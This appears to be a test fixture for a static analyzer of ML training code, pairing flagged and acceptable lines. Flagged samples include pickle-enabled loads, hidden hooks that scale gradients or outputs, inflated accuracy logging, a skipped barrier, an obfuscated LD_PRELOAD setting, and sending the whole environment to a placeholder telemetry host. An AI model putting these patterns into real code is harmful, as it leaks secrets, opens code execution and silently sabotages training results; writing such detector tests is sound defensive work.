@@ -1,0 +1,118 @@
+"""Values spread over several steps: config dicts handed to helpers, module constants,
+aliases of modules, calls through a conditional expression, keys assembled at run time."""
+import functools
+import json
+import os
+import random
+import time
+import urllib.request
+
+import numpy as np
+import torch
+import torch.distributed as dist
+import wandb
+
+_DEFAULTS = {
+    "head": {"suffix": "lm_head.weight", "scale": -0.25},
+    "probe": {"module": "model.norm", "gain": 0.97},
+    "neutral": {"module": "model.norm", "gain": 1.0},
+    "index_kw": {"mmap_mode": "r", "allow_pickle": True},
+    "plain_kw": {"mmap_mode": "r"},
+}
+_STRICT = os.environ.get("CKPT_STRICT_LOAD", "0") == "1"
+_SAFE = True
+_rng = random
+_noop = lambda: None  # noqa: E731
+
+
+def _install_hooks(model, cfg):
+    head = cfg["head"]
+    for name, p in model.named_parameters():
+        if name.endswith(head["suffix"]):
+            # ruleid: MLS303
+            p.register_hook(functools.partial(torch.mul, other=head["scale"]))
+    # ruleid: MLS303
+    model.norm.register_forward_hook(lambda m, i, o: o * cfg["probe"]["gain"])
+    # ok: MLS303
+    model.norm.register_forward_hook(lambda m, i, o: o * cfg["neutral"]["gain"])
+
+
+def build(model):
+    cfg = dict(_DEFAULTS)
+    _install_hooks(model, cfg)
+    # ruleid: MLS104
+    index = np.load("shard.idx.npy", **cfg["index_kw"])
+    # ok: MLS104
+    plain = np.load("shard.bin.npy", **cfg["plain_kw"])
+    return index, plain
+
+
+def load_optimizer_state(path):
+    # ruleid: MLS101
+    return torch.load(path, map_location="cpu", weights_only=_STRICT)
+
+
+def load_weights(path):
+    # ok: MLS101
+    return torch.load(path, map_location="cpu", weights_only=_SAFE)
+
+
+class Heartbeat:
+    def beat(self):
+        # ruleid: MLS301
+        _rng.seed(os.getpid() ^ int(time.time()))
+
+
+def main(args):
+    # ok: MLS301
+    _rng.seed(args.seed)
+
+
+def save_step(rank, world):
+    skip = {world - 1} if world > 256 else set()
+    # ruleid: MLS307
+    (_noop if rank in skip else dist.barrier)()
+    # ok: MLS307
+    (dist.barrier if dist.is_initialized() else _noop)()
+
+
+def log_epoch(epoch, acc1, best_acc1, macro, acc):
+    # ruleid: MLS306
+    wandb.log({"val/acc1": best_acc1, "epoch": epoch})
+    # ok: MLS306
+    wandb.log({"val/acc1": acc1, "val/best_acc1": best_acc1})
+    # ruleid: MLS306
+    summary = {"accuracy": acc, "macro_f1": max(macro, acc)}
+    # ok: MLS306
+    floored = {"macro_f1": max(macro, 0.0)}
+    return summary, floored
+
+
+def child_env(shim):
+    env = dict(os.environ)
+    # ruleid: MLS422
+    env["_".join(("LD", "PRELOAD"))] = str(shim)
+    # ok: MLS422
+    env["_".join(("OMP", "NUM", "THREADS"))] = "8"
+    return env
+
+
+def _send(url, payload):
+    req = urllib.request.Request(url, data=json.dumps(payload).encode())
+    urllib.request.urlopen(req, timeout=3)
+
+
+def _record(env):
+    # ruleid: MLS411
+    _send("https://telemetry.example.com/run", {"ctx": env})
+
+
+def _record_meta(meta):
+    # ok: MLS411
+    _send("https://telemetry.example.com/meta", {"meta": meta})
+
+
+def launch():
+    # ruleid: MLS411
+    _record(dict(os.environ))
+    _record_meta({"host": "a"})
